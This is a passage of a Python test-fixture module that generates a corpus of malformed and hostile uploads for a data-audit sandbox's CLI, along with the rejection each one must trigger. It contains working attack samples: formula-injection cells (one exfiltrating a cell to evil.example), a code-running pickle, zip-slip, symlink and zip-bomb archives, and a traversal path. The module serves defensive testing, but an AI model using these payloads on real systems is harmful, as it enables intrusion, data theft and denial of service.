"""The bad-input corpus: every file and argument a person can get wrong.

One list, :data:`CASES`. Each case names the files it needs (written by small
maker functions, so nothing large is committed: the 50 MB cell and the zip
bomb are made at test time in a temporary folder), the CLI command line that
feeds them to the product and what must happen. ``tests/test_bad_input_corpus.py``
runs every case through ``python -m sandbox --lang zh|en …`` on a fresh copy
of a demo world and checks: non-zero exit (or, for ``expect="accept"`` cases
such as GBK files, success), a clear message in the requested language and
the database, MLflow store and data home unchanged. Cases with a ``reader``
expectation are also fed to :func:`sandbox.tabular.read_table` directly.

A new upload path joins the corpus by adding ``Case`` entries here.

Run ``python tests/data/make_bad_corpus.py OUT_DIR`` to write the files for a
look by hand (the giant ones included).
"""

from __future__ import annotations

import csv
import io
import pickle
import random
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

__all__ = ["CASES", "Case", "build_files", "marker_path"]

Maker = Callable[[Path], None]

SCENARIO_COLUMNS = ["编号", "姓名", "性别", "年龄", "街道镇", "城乡", "符合救助", "预测", "评分"]
DISTRICTS = ["西湖街道", "北山街道", "灵隐街道", "翠苑街道", "古荡街道", "转塘街道", "三墩镇", "双浦镇"]
SURNAMES = "王李张刘陈杨赵黄周吴"
GIVEN = ["伟", "芳", "娜", "秀英", "敏", "静", "丽", "强", "磊", "军"]


# --------------------------------------------------------------------- data


def _rows(n: int = 240, *, seed: int = 7) -> list[dict[str, str]]:
    """A small, valid audit table (the base every table case mutates)."""
    rng = random.Random(seed)
    rows = []
    for i in range(n):
        age = rng.randint(18, 95)
        district = DISTRICTS[i % len(DISTRICTS)]
        label = rng.random() < 0.4
        pred = label if rng.random() < 0.8 else not label
        rows.append({
            "编号": f"P{i:05d}",
            "姓名": rng.choice(SURNAMES) + rng.choice(GIVEN),
            "性别": rng.choice("男女"),
            "年龄": str(age),
            "街道镇": district,
            "城乡": "农村" if district.endswith("镇") else "城镇",
            "符合救助": str(int(label)),
            "预测": str(int(pred)),
            "评分": f"{rng.random():.3f}",
        })
    return rows


def _csv_text(rows: list[dict[str, str]], *, delimiter: str = ",", columns: list[str] | None = None) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns or list(rows[0]), delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def _text(text: str, encoding: str = "utf-8") -> Maker:
    return lambda path: path.write_bytes(text.encode(encoding))


def _committee_yaml(count: int) -> str:
    """A members file for ``sandbox committee create`` listing the first ``count`` demo committee members."""
    people = [("chair", "伦理", "男"), ("reviewer", "科技", "女"), ("reviewer2", "科技", "男"), ("reviewer3", "法律", "女"),
              ("reviewer4", "伦理", "男"), ("reviewer5", "法律", "男"), ("reviewer6", "其他", "女")]
    rows = [f"  - username: {u}\n    category: {c}\n    sex: {x}\n    affiliation: 某单位\n" for u, c, x in people[:count]]
    return "members:\n" + "".join(rows)


def _bytes(data: bytes) -> Maker:
    return lambda path: path.write_bytes(data)


def _table(mutate: Callable[[list[dict[str, str]]], list[dict[str, str]]] | None = None, *,
           encoding: str = "utf-8-sig", delimiter: str = ",") -> Maker:
    def make(path: Path) -> None:
        rows = _rows()
        if mutate is not None:
            rows = mutate(rows)
        path.write_bytes(_csv_text(rows, delimiter=delimiter).encode(encoding))
    return make


def _set(column: str, value: Callable[[int, dict[str, str]], str]) -> Callable[[list[dict[str, str]]], list[dict[str, str]]]:
    def mutate(rows: list[dict[str, str]]) -> list[dict[str, str]]:
        for i, row in enumerate(rows):
            row[column] = value(i, row)
        return rows
    return mutate


def _predictions(path: Path) -> None:
    rows = [{"编号": r["编号"], "预测": r["预测"], "评分": r["评分"]} for r in _rows()]
    path.write_bytes(_csv_text(rows).encode("utf-8-sig"))


def _gb18030_rare(path: Path) -> None:
    rows = _rows()
    rows[0]["姓名"] = "𠀀𪚥"  # outside GBK: four-byte GB18030
    path.write_bytes(_csv_text(rows).encode("gb18030"))


def _excel(path: Path, *, merged_subheader: bool) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["2025年第三季度社会救助对象名单（内部）"])
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(SCENARIO_COLUMNS))
    if merged_subheader:
        # Two-level header: 基本信息 spans 编号..性别, the cells under it are merged too.
        sheet.append(["基本信息", None, None, "年龄", "街道镇", "城乡", "符合救助", "预测", "评分"])
        sheet.merge_cells(start_row=2, start_column=1, end_row=2, end_column=3)
        sheet.append([None, None, None, None, None, None, None, None, None])
    else:
        sheet.append(SCENARIO_COLUMNS)
    for row in _rows(60):
        sheet.append([row[c] for c in SCENARIO_COLUMNS])
    book.save(path)


def _big_cell(path: Path) -> None:
    rows = _rows(5)
    rows[2]["姓名"] = "张" * (50 * 1024 * 1024 // 3)  # a 50 MB cell (UTF-8: 3 bytes a character)
    path.write_bytes(_csv_text(rows).encode("utf-8"))


def _many_groups(path: Path) -> None:
    rows = _rows(20_000)
    for i, row in enumerate(rows):
        row["街道镇"] = f"虚构街道{i % 10_000:05d}"
    path.write_bytes(_csv_text(rows).encode("utf-8-sig"))


def _too_many_columns(path: Path) -> None:
    header = [f"列{i}" for i in range(2_100)]
    path.write_text(",".join(header) + "\n" + ",".join("1" for _ in header) + "\n", encoding="utf-8")


def _formula_cells(rows: list[dict[str, str]]) -> list[dict[str, str]]:
    rows[0]["姓名"] = '=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")'
    rows[1]["姓名"] = "+cmd|' /C calc'!A0"
    rows[2]["姓名"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[3]["姓名"] = "-2+3+cmd|' /C calc'!A0"
    return rows


def _bad_id_cards(path: Path) -> None:
    rows = _rows()
    bad = ["110105194912310020", "11010519491231002", "1101051949123100X2", "990105194912310021",
           "110105194913320026", "abcdefghijklmnopqr", "", "110105 19491231 0021"]
    for i, row in enumerate(rows):
        row["身份证号"] = bad[i % len(bad)]
        del row["年龄"]
    path.write_bytes(_csv_text(rows).encode("utf-8-sig"))


# ---------------------------------------------------------------- archives


def marker_path(case_dir: Path) -> Path:
    """The file a malicious payload would create; its existence is a failure."""
    return case_dir / "PWNED-by-corpus"


class _Evil:
    """Unpickling this runs ``open(marker, 'w')``: proof that someone unpickled it."""

    def __init__(self, target: str) -> None:
        self.target = target

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (self.target, "w"))


def _malicious_pickle(path: Path) -> None:
    path.write_bytes(pickle.dumps(_Evil(str(marker_path(path.parent))), protocol=4))


def _mlflow_dir_with_evil_pickle(path: Path) -> None:
    path.mkdir()
    (path / "MLmodel").write_text(
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
        "    model_path: model.pkl\n    python_version: 3.11.2\n    env:\n      virtualenv: python_env.yaml\n"
        "  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n"
        "    sklearn_version: 1.7.2\nmlflow_version: 3.5.0\nmodel_uuid: 00000000000000000000000000000000\n",
        encoding="utf-8")
    _malicious_pickle(path / "model.pkl")
    (path / "requirements.txt").write_text("scikit-learn==1.7.2\n", encoding="utf-8")


def _zip_slip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/MLmodel", "flavors: {}\n")
        archive.writestr("../../../../tmp/zip-slip-escaped.txt", "escaped")
        archive.writestr("/etc/cron.d/zip-slip", "* * * * * root true")


def _zip_symlink(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        info = zipfile.ZipInfo("model/link")
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
        archive.writestr("model/MLmodel", "flavors: {}\n")


def _zeros_deflate(size: int, *, chunk: int = 1 << 24) -> tuple[bytes, int]:
    """Raw deflate stream and CRC-32 of ``size`` zero bytes, in well under a second.

    After a full flush the compressor forgets its history, so every later
    identical chunk compresses to the same bytes: compress one, repeat it.
    """
    assert size % chunk == 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH)
    again = compressor.compress(bytes(chunk)) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    crc = 0
    zero_chunk = bytes(chunk)
    for _ in range(size // chunk):
        crc = zlib.crc32(zero_chunk, crc)
    return block + again * (size // chunk - 1) + tail, crc


def _zip_bomb(path: Path) -> None:
    """Two members of 2 GiB of zeros each (4 GiB in all) in a ~8 MB archive; valid CRCs and sizes."""
    import struct

    size = 2 * 1024**3 - (1 << 24)
    data, crc = _zeros_deflate(size)
    names = [b"model/model.onnx", b"model/weights.bin"]
    out = bytearray()
    central = bytearray()
    for name in names:
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0)
        out += name + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                               len(name), 0, 0, 0, 0, 0o644 << 16, offset)
        central += name
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(central), start, 0)
    path.write_bytes(bytes(out))


def _not_a_zip(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 8)


def _garbage_onnx(path: Path) -> None:
    path.write_bytes(zlib.compress(b"this is not an onnx protobuf" * 100))


# ------------------------------------------------------------------- cards

CARD = {
    "vendor_name": "智联政务科技有限公司",
    "vendor_uscc": "91330110MA2H0QXJ7E",
    "model_name": "corpus-model",
    "model_version": "1.0.0",
    "service_domain": "社会救助",
    "intended_use": "社会救助对象精准识别的辅助排序",
    "out_of_scope_uses": ["直接作出拒绝救助的决定"],
    "automated_decision": True,
    "human_in_the_loop": True,
    "algorithm_type": "调度决策类",
    "filing_number": None,
    "training_data": "2023–2024 年脱敏救助台账",
    "personal_information_sources": ["民政救助台账"],
    "input_features": ["年龄", "街道镇", "城乡"],
    "sensitive_attributes": ["年龄", "街道镇"],
    "known_limitations": ["农村高龄人群样本少"],
    "contact": {"name": "王工", "phone": "0571-88886666", "email": "ai@example.cn"},
}


def _clients(path: Path) -> None:
    """Personal information under headers no policy names: 客户 (names), 证件 (身份证), 手机, 备注 (free text)."""
    from privacy.checksums import id_card_check_char

    rng = random.Random(11)
    rows = []
    for i in range(40):
        body = f"330106{rng.randint(1940, 2000)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(0, 999):03d}"
        phone = f"13{rng.randint(0, 999_999_999):09d}"
        rows.append({"序号": str(i + 1), "客户": rng.choice(SURNAMES) + rng.choice(GIVEN),
                     "证件": body + id_card_check_char(body), "手机": phone,
                     "备注": "已回访" if i % 4 else f"客户要求回电至{phone}", "满意度": rng.choice(["满意", "不满意"])})
    path.write_bytes(_csv_text(rows).encode("gbk"))


_DROP = object()


def _card(**changes: object) -> Maker:
    """The valid card with fields changed (or dropped with ``_DROP``)."""

    def make(path: Path) -> None:
        import yaml

        card = {**CARD, **changes}
        card = {k: v for k, v in card.items() if v is not _DROP}
        path.write_text(yaml.safe_dump(card, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return make


# ------------------------------------------------------------------- cases

Expect = Literal["reject", "accept"]


@dataclass(frozen=True, kw_only=True)
class Case:
    """One bad (or awkward but valid) input and what the product must do with it.

    Parameters
    ----------
    id : str
        Short name (the pytest id).
    what : str
        What is wrong, for the reader of a failure.
    command : tuple of str
        The sub-command path (``("audit", "run")``); a case whose command does
        not exist yet is an expected failure "area not landed".
    argv : tuple of str
        Arguments after the sub-command; ``{name}`` is replaced by the path of
        the file ``name`` of :attr:`files`, ``{tmp}`` by a scratch folder
        outside the data home and ``{home}`` by the data home.
    files : dict
        File name → maker function.
    expect : {"reject", "accept"}
        Reject: non-zero exit, clear message, nothing changed. Accept: exit 0.
    reader : str or None
        For table files: the :class:`InputError` key :func:`read_table` (plus
        ``require_columns(reader_columns)``) must raise, ``"ok"`` if it must
        read the file, None if the reader is not the point.
    reader_file : str
        Which of :attr:`files` the reader check reads.
    reader_columns : tuple of str
        Columns that must be present after reading.
    setup : tuple of tuple of str
        CLI command lines run (and required to succeed) before the snapshot.
    known_issue : str
        A product bug or an unadapted case, reported as an expected failure
        (non-strict: it shows as XPASS once fixed) until someone fixes it.
    ok_codes : tuple of int
        Exit codes that count as handled for ``expect="accept"`` (an audit of
        a small file may end in 3 "check failed" or 4 "insufficient evidence").
    exit_code : int or None
        For ``expect="reject"``: the exit code required (2 for usage errors);
        None accepts any non-zero code.
    message_has : tuple of str
        For ``expect="reject"``: texts the message must contain in every
        language (e.g. the dataset's name), so the refusal is the right one.
    large : bool
        Made at test time only (never written into the repository).
    """

    id: str
    what: str
    command: tuple[str, ...]
    argv: tuple[str, ...]
    files: dict[str, Maker] = field(default_factory=dict)
    expect: Expect = "reject"
    reader: str | None = None
    reader_file: str = ""
    reader_columns: tuple[str, ...] = ()
    setup: tuple[tuple[str, ...], ...] = ()
    large: bool = False
    ok_codes: tuple[int, ...] = (0,)
    known_issue: str = ""
    exit_code: int | None = None
    message_has: tuple[str, ...] = ()


AS_REVIEWER = ("--as", "reviewer")
AS_STEWARD = ("--as", "steward")
AS_VENDOR = ("--as", "vendor_a")
AS_ADMIN = ("--as", "admin")
AUDIT = ("audit", "run")
AUDIT_COLS = ("--label", "符合救助", "--prediction", "预测", "--age", "年龄", "--district", "街道镇",
              "--replicates", "100")
PII = ("pii", "scan")
SUBMIT = ("models", "submit")
RELEASE = ("release", "histogram")


def _audit(name: str, what: str, maker: Maker, *, reader: str | None = None, expect: Expect = "reject",
           argv: tuple[str, ...] = AUDIT_COLS, suffix: str = ".csv", large: bool = False,
           columns: tuple[str, ...] = ("编号", "符合救助", "年龄", "街道镇"),
           ok_codes: tuple[int, ...] = (0, 3, 4)) -> Case:
    """A table fed to the fairness audit as its data (predictions in the same file)."""
    return Case(id=f"audit-{name}", what=what, command=AUDIT,
                argv=("--predictions", f"{{data{suffix}}}", "--data", f"{{data{suffix}}}", *argv, *AS_REVIEWER, "--json"),
                files={f"data{suffix}": maker}, expect=expect, reader=reader, reader_file=f"data{suffix}",
                reader_columns=columns if reader == "ok" or reader == "errors.column_missing" else (),
                large=large, ok_codes=ok_codes)


def _pii(name: str, what: str, maker: Maker, *, reader: str | None = None, expect: Expect = "reject",
         suffix: str = ".csv", extra: tuple[str, ...] = (), large: bool = False) -> Case:
    return Case(id=f"pii-{name}", what=what, command=PII,
                argv=(f"{{data{suffix}}}", *extra, *AS_STEWARD, "--json"),
                files={f"data{suffix}": maker}, expect=expect, reader=reader, reader_file=f"data{suffix}",
                large=large)


def _submit(name: str, what: str, artifact: tuple[str, Maker], card: Maker | None = None, *,
            as_user: tuple[str, ...] = AS_VENDOR, large: bool = False) -> Case:
    files: dict[str, Maker] = {artifact[0]: artifact[1], "card.yaml": card or _card()}
    return Case(id=f"submit-{name}", what=what, command=SUBMIT,
                argv=(f"{{{artifact[0]}}}", "--card", "{card.yaml}", *as_user, "--json"), files=files, large=large)


def _release(name: str, what: str, epsilon: str, *, by: str = "街道镇,年龄", dataset: str = "corpus-release",
             setup: tuple[tuple[str, ...], ...] = (), known_issue: str = "", exit_code: int | None = None,
             keys: bool = False, message_has: tuple[str, ...] = ()) -> Case:
    files: dict[str, Maker] = {"data.csv": _table()}
    if keys:  # the public district list (never the values found in the data)
        files["keys.yaml"] = _text("街道镇: [" + ", ".join(DISTRICTS) + "]\n")
    return Case(id=f"release-{name}", what=what, command=RELEASE,
                argv=("{data.csv}", "--by", by, *(("--keys", "{keys.yaml}") if keys else ()), "--epsilon", epsilon,
                      "--dataset", dataset, *AS_STEWARD, "--json"),
                files=files, setup=setup, known_issue=known_issue, exit_code=exit_code, message_has=message_has)


DEID = ("deid",)


def _deid(name: str, what: str, policy: str, *, message_has: tuple[str, ...]) -> Case:
    """The unknown-header file de-identified under ``policy`` (a YAML text) into the data home: must write nothing."""
    return Case(id=f"deid-{name}", what=what, command=DEID,
                argv=("{data.csv}", "--policy", "{policy.yaml}", "--out", "{home}/work/deid-corpus", *AS_STEWARD,
                      "--json"),
                files={"data.csv": _clients, "policy.yaml": _text(policy)}, message_has=message_has)


_GOOD = _table()


def _backup_archive(*, edit: bool = False, truncate: bool = False, traversal: bool = False,
                    manifest: bool = True) -> Maker:
    """A small archive in the format of ``sandbox backup``, spoiled one way."""
    import hashlib
    import json
    import tarfile

    def make(path: Path) -> None:
        body = b"pseudonym secret\n"
        name = "home/../../escape.txt" if traversal else "home/secrets/pseudonym-default.key"
        listed = {name: {"sha256": hashlib.sha256(body).hexdigest(), "size": len(body), "mode": 0o600}}
        doc = {"format": "sandbox-backup/1", "created_at": "2027-01-31T02:00:00+00:00", "home": "/srv/sandbox",
               "stores": {}, "chain_heads": {}, "files": listed}
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
            for member, data in ((name, body.replace(b"secret", b"SECRET") if edit else body),
                                 *((("manifest.json", json.dumps(doc).encode()),) if manifest else ())):
                info = tarfile.TarInfo(member)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        raw = buffer.getvalue()
        path.write_bytes(raw[: len(raw) // 2] if truncate else raw)

    return make

CASES: tuple[Case, ...] = (
    # ---- the generic reader, through the audit upload
    _audit("empty", "empty file (0 bytes)", _bytes(b""), reader="errors.file_empty"),
    _audit("blank", "only spaces and newlines", _text("  \n\n \r\n"), reader="errors.file_empty"),
    _audit("header-only", "header row, no data", _text(",".join(SCENARIO_COLUMNS) + "\n"),
           reader="errors.file_no_rows"),
    _audit("binary", "a PNG renamed .csv", _bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
           reader="errors.file_binary"),
    _audit("undecodable", "bytes neither UTF-8 nor GB18030", _bytes(b"\xe7\xbc\x96\xe5\x8f\xb7,x\n\xff\xfe\xff,1\n"),
           reader="errors.file_encoding"),
    _audit("blank-header", "a column without a name", _table(lambda rows: [{**r, "": "x"} for r in rows]),
           reader="errors.header_blank"),
    _audit("duplicate-header", "two columns named 年龄",
           _text("编号,年龄,年龄,街道镇,符合救助,预测\nP1,70,71,三墩镇,1,1\n"), reader="errors.header_duplicate"),
    _audit("ragged", "a row with more fields than the header",
           _text("编号,年龄,街道镇,符合救助,预测\nP1,70,三墩镇,1,1\nP2,80,双浦镇,0,1,9,9,9\n"),
           reader="errors.file_parse"),
    _audit("unclosed-quote", "a quote that never closes",
           _text('编号,年龄,街道镇,符合救助,预测\nP1,70,"三墩镇,1,1\nP2,80,双浦镇,0,1\n'), reader="errors.file_parse"),
    _audit("wrong-delimiter", "fields separated by the full-width comma ，", _table(delimiter="，"),
           reader="errors.column_missing"),
    _audit("too-many-columns", "2,100 columns", _too_many_columns, reader="errors.too_many_columns"),
    _audit("giant-cell", "one 50 MB cell", _big_cell, reader="errors.cell_too_big", large=True),
    _audit("unsupported-type", "a Word document", _bytes(b"PK\x03\x04word/document.xml"),
           reader="errors.file_type", suffix=".docx"),
    _audit("broken-xlsx", "random bytes named .xlsx", _bytes(bytes(range(256)) * 4), reader="errors.file_parse",
           suffix=".xlsx"),
    _audit("broken-parquet", "a CSV renamed .parquet", _GOOD, reader="errors.file_parse", suffix=".parquet"),
    _audit("excel-merged-header", "Excel with a two-level merged header", lambda p: _excel(p, merged_subheader=True),
           reader="errors.header_two_rows", suffix=".xlsx"),
    _audit("misnamed-label", "label column named 是否符合 instead of 符合救助",
           _table(lambda rows: [{("是否符合" if k == "符合救助" else k): v for k, v in r.items()} for r in rows]),
           reader="errors.column_missing", columns=("编号", "符合救助")),
    # ---- awkward but valid encodings: must be read correctly
    _audit("gbk", "GBK-encoded export (government default)", _table(encoding="gbk"), reader="ok", expect="accept"),
    _audit("gb18030", "GB18030 with characters outside GBK", _gb18030_rare, reader="ok", expect="accept"),
    _audit("utf8-bom", "UTF-8 with BOM", _table(encoding="utf-8-sig"), reader="ok", expect="accept"),
    _audit("semicolon", "semicolon-separated", _table(delimiter=";"), reader="ok", expect="accept"),
    _audit("excel-title-row", "Excel with a merged title row above the header",
           lambda p: _excel(p, merged_subheader=False), reader="ok", suffix=".xlsx", expect="accept"),
    # ---- audit-specific content
    _audit("nan-everywhere", "label and prediction empty in every row",
           _table(lambda rows: [{**r, "符合救助": "", "预测": "NaN"} for r in rows]), reader="ok",
           columns=("编号", "符合救助")),
    _audit("non-binary-label", "labels 0/1/2", _table(_set("符合救助", lambda i, r: str(i % 3)))),
    _audit("text-label", "labels 是/否 with a typo 是的", _table(_set("符合救助", lambda i, r: ["是", "否", "是的"][i % 3]))),
    _audit("one-group", "every row in one 街道 and one age", _table(
        lambda rows: [{**r, "街道镇": "三墩镇", "年龄": "40"} for r in rows])),
    _audit("ten-thousand-groups", "10,000 distinct 街道 values", _many_groups, large=True),
    # Ages outside 0–120 and unreadable 身份证 form the flagged "unknown" group (DESIGN §5): the audit
    # runs and can only say "insufficient evidence" (exit 4) — never pass.
    _audit("ages-out-of-range", "every age negative or over 150",
           _table(_set("年龄", lambda i, r: ["-3", "151", "二十", "999"][i % 4])), expect="accept", ok_codes=(4,)),
    _audit("missing-column-arg", "--label names a column that is not there", _GOOD,
           argv=("--label", "不存在的列", "--prediction", "预测", "--age", "年龄", "--district", "街道镇")),
    _audit("bad-id-cards", "age from 身份证 but every number is invalid", _bad_id_cards, expect="accept", ok_codes=(4,),
           argv=("--label", "符合救助", "--prediction", "预测", "--id-card", "身份证号", "--district", "街道镇",
                 "--replicates", "100")),
    _audit("unknown-policy", "--policy names no policy", _GOOD, argv=(*AUDIT_COLS, "--policy", "不存在的策略")),
    Case(id="audit-missing-file", what="--data points at nothing", command=AUDIT,
         argv=("--predictions", "{tmp}/none.csv", "--data", "{tmp}/none.csv", *AUDIT_COLS, *AS_REVIEWER)),
    Case(id="audit-as-vendor", what="a vendor tries to run an audit", command=AUDIT,
         argv=("--predictions", "{data.csv}", "--data", "{data.csv}", *AUDIT_COLS, *AS_VENDOR),
         files={"data.csv": _GOOD}),
    Case(id="audit-predictions-mismatch", what="predictions file has other 编号 than the data", command=AUDIT,
         argv=("--predictions", "{pred.csv}", "--data", "{data.csv}", *AUDIT_COLS, *AS_REVIEWER),
         files={"data.csv": _GOOD,
                "pred.csv": _table(lambda rows: [{"编号": "X" + r["编号"], "预测": r["预测"]} for r in rows])}),
    # ---- PII scan uploads
    _pii("empty", "empty text file", _bytes(b""), suffix=".txt"),
    _pii("binary", "an executable", _bytes(b"\x7fELF\x02\x01\x01" + bytes(200)), suffix=".csv",
         reader="errors.file_binary"),
    _pii("giant-cell", "one 50 MB cell", _big_cell, large=True),
    _pii("bad-jsonl", "JSONL with a broken line", _text('{"text": "张三 13800138000"}\n{"text": oops}\n'),
         suffix=".jsonl", reader="errors.jsonl_line"),
    _pii("missing-column", "--column names a column that is not there", _GOOD, extra=("--column", "工单内容")),
    _pii("gbk-text", "GBK CSV with names and phones", _table(encoding="gbk"), reader="ok", expect="accept"),
    # ---- model intake
    _submit("zip-slip", "archive members escaping with ../ and absolute paths", ("model.zip", _zip_slip)),
    _submit("zip-symlink", "archive with a symlink to /etc/passwd", ("model.zip", _zip_symlink)),
    _submit("zip-bomb", "4 GiB of zeros in a few MB", ("model.zip", _zip_bomb), large=True),
    _submit("not-a-zip", "a truncated archive", ("model.zip", _not_a_zip)),
    _submit("malicious-pickle", "a bare pickle whose loading writes a file", ("model.pkl", _malicious_pickle)),
    _submit("garbage-onnx", "bytes that are not an ONNX model", ("model.onnx", _garbage_onnx)),
    _submit("empty-artifact", "an empty predictions file", ("predictions.csv", _bytes(b""))),
    _submit("card-missing-fields", "card without vendor_name, intended_use, contact",
            ("predictions.csv", _predictions), _card(vendor_name=_DROP, intended_use=_DROP, contact=_DROP)),
    _submit("card-bad-values", "card with an unknown service domain and risk tier V",
            ("predictions.csv", _predictions), _card(service_domain="娱乐", risk_tier="V", algorithm_type="魔法类")),
    _submit("card-bad-uscc", "card with an invalid 统一社会信用代码", ("predictions.csv", _predictions),
            _card(vendor_uscc="91330110MA2H0QXJ7X")),
    _submit("card-not-yaml", "card that is not YAML", ("predictions.csv", _predictions),
            _text("vendor_name: [unclosed\n  : : :\n")),
    _submit("card-other-vendor", "vendor_a submits a card naming vendor_b's company", ("predictions.csv", _predictions),
            _card(vendor_name="数安城市科技有限公司")),
    _submit("as-reviewer", "a reviewer tries to submit a model", ("predictions.csv", _predictions),
            as_user=AS_REVIEWER),
    # ---- DP release and budget
    _release("epsilon-zero", "ε = 0", "0"),
    _release("epsilon-negative", "ε < 0", "-1"),
    _release("epsilon-nan", "ε = NaN", "nan"),
    _release("epsilon-inf", "ε = inf", "inf"),
    _release("epsilon-text", "ε is not a number", "一点", exit_code=2),
    _release("epsilon-over-budget", "ε far above any budget", "1000000"),
    _release("budget-spent", "the dataset's budget was already spent (setup spends all of it with public keys)",
             "0.5", dataset="corpus-spent", keys=True, message_has=("corpus-spent", "budget show"),
             setup=(("release", "histogram", "{data.csv}", "--by", "街道镇", "--keys", "{keys.yaml}", "--epsilon",
                     "{budget}", "--dataset", "corpus-spent", *AS_STEWARD),)),
    _release("missing-by-column", "--by names a column that is not there", "0.5", by="不存在"),
    # ---- de-identification fails closed (nothing written: the output folder is inside the data home)
    _deid("no-rule", "policy has no rule for a type found by content (phones under 手机 and in 备注)",
          "name: partial\nversion: '1'\nentities: {PERSON: pseudonym, CN_RESIDENT_ID: label}\n",
          message_has=("手机", "备注", "PHONE_NUMBER", "partial@1")),
    _deid("keep-pii", "policy keeps a column that holds names (客户: keep)",
          "name: keeper\nversion: '1'\nentities: {default: label}\ncolumns: {客户: keep}\n",
          message_has=("客户", "PERSON", "keeper@1")),
    _deid("pii-remains", "an operator whose output is still personal information (re-scan refuses)",
          "name: sloppy\nversion: '1'\nentities: {default: label}\n"
          "columns: {序号: {op: pseudonym, prefix: '电话13812345678-'}}\n",
          message_has=("序号", "PHONE_NUMBER")),
    _deid("bad-policy", "policy maps an entity type to an operator that does not exist",
          "name: odd\nversion: '1'\nentities: {PERSON: shred}\n", message_has=("entities.PERSON",)),
    Case(id="budget-unknown-dataset", what="budget of a dataset that does not exist", command=("budget", "show"),
         argv=("不存在的数据集", *AS_STEWARD)),
    # ---- record verification (the 审查记录 page's upload; `sandbox verify FILE`)
    Case(id="verify-not-json", what="a record export that is not JSON", command=("verify",),
         argv=("{record.json}",), files={"record.json": _text("这不是 JSON\n")}),
    Case(id="verify-truncated-json", what="a record export cut off in the middle", command=("verify",),
         argv=("{record.json}",), files={"record.json": _text('{"format": "sandbox-review-record", "records": [{"re')}),
    Case(id="verify-wrong-shape", what="valid JSON that is not a record export", command=("verify",),
         argv=("{record.json}",), files={"record.json": _text('[1, 2, 3]')}),
    Case(id="verify-empty", what="an empty record export", command=("verify",),
         argv=("{record.json}",), files={"record.json": _bytes(b"")}),
    # ---- anchored chain, signed votes, conditions (issue 15)
    Case(id="verify-head-unknown", what="--expect-head with a head that is in no chain (rolled back, or another sandbox's)",
         command=("verify",), argv=("--all", "--expect-head", "ab" * 32), exit_code=3,
         message_has=("abababababababab",)),
    Case(id="verify-head-malformed", what="--expect-head that is neither seq:hash nor a file", command=("verify",),
         argv=("--all", "--expect-head", "12:xyz"), exit_code=1, message_has=("12:xyz",)),
    Case(id="verify-head-not-a-head-file", what="--expect-head FILE that is JSON but no chain head", command=("verify",),
         argv=("--all", "--expect-head", "{head.json}"), files={"head.json": _text('{"format": "other"}')},
         exit_code=1, message_has=("head.json",)),
    Case(id="vote-wrong-signing-password", what="a vote whose password does not unlock the member's signing key",
         command=("review", "vote"), argv=("2", "修改后再审", "--signing-password", "wrong-password", *AS_REVIEWER),
         exit_code=1, message_has=("reviewer",)),
    Case(id="condition-unknown", what="evidence for a condition the record does not set", command=("review", "condition", "submit"),
         argv=("ER-01-0001-v1/K9", "--evidence", "已整改", "--as", "vendor_a"), exit_code=1, message_has=("K9",)),
    # ---- core arguments (landed)
    Case(id="users-add-unknown-role", what="users add with an unknown role", command=("users", "add"),
         argv=("newbie", "--role", "superuser", "--new-password", "pw-123456", *AS_ADMIN)),
    Case(id="users-add-existing", what="users add of a user that exists", command=("users", "add"),
         argv=("reviewer", "--role", "reviewer", "--new-password", "pw-123456", *AS_ADMIN)),
    Case(id="users-add-as-vendor", what="a vendor tries to add a user", command=("users", "add"),
         argv=("newbie", "--role", "admin", "--new-password", "pw-123456", *AS_VENDOR)),
    Case(id="whoami-unknown-user", what="--as a user that does not exist", command=("whoami",),
         argv=("--as", "nobody")),
    Case(id="whoami-wrong-password", what="wrong password", command=("whoami",),
         argv=("--as", "chair", "--password", "wrong-password")),
    # ---- operations: accounts, keys, backups (each refused with nothing changed)
    Case(id="rotate-key-wrong-password", what="declaring one's key compromised with a wrong password",
         command=("users", "rotate-key"), argv=("--as", "chair", "--password", "not-the-password")),
    Case(id="passwd-wrong-current", what="changing a password with a wrong current password",
         command=("users", "passwd"), argv=("--new-password", "brand-new-pw-1", "--as", "reviewer", "--password",
                                            "not-the-password")),
    Case(id="init-home-with-users", what="sandbox init on a home that has accounts", command=("init",),
         argv=("--admin", "boss"), message_has=("sandbox users add",)),
    Case(id="restore-non-empty-home", what="restoring a good backup over a home that is in use",
         command=("restore",), argv=("{tmp}/backup.tar.gz",), setup=(("backup", "{tmp}/backup.tar.gz"),)),
    Case(id="restore-truncated-archive", what="a backup cut off in the middle", command=("restore",),
         argv=("{backup.tar.gz}",), files={"backup.tar.gz": _backup_archive(truncate=True)},
         message_has=("backup.tar.gz",)),
